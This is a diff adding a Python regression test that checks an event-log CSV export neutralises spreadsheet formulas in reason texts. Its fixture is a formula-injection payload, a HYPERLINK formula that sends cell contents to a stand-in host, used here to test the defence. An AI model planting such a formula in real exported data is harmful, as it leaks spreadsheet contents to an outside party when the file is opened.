@@ -140,3 +140,22 @@ def test_the_analytics_loader_reads_every_export_with_no_mapping(history, tmp_pa
     export.WRITERS[fmt](out)
     loaded = load_log(out).events.sort(s.EVENT_ID)
     assert_frame_equal(loaded, export.events_frame().sort(s.EVENT_ID))
+
+
+def test_export_log_csv_neutralises_formulas_and_reads_back_exactly(org, task, tmp_path):
+    # Issue #12, break 3: `export_log --format csv` wrote a reason "=..." as a live formula.
+    from polars.testing import assert_frame_equal
+
+    from congvu_analytics.io.loader import load_log
+
+    evil = '=HYPERLINK("http://example.invalid/?leak="&A1)'
+    actions.do_remind(task, org.gd_a, text=evil, at=at(1))
+    actions.do_remind(task, org.gd_a, text="'-already quoted", at=at(2))
+    out = tmp_path / "log.csv"
+    call_command("export_log", "--format", "csv", "--out", str(out))
+    raw = pl.read_csv(out, infer_schema=False)
+    texts = raw.get_column(s.REASON_TEXT).drop_nulls().to_list()
+    assert "'" + evil in texts and "''-already quoted" in texts
+    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
+    loaded = load_log(out).events.sort(s.EVENT_ID)
+    assert_frame_equal(loaded, export.events_frame().sort(s.EVENT_ID))
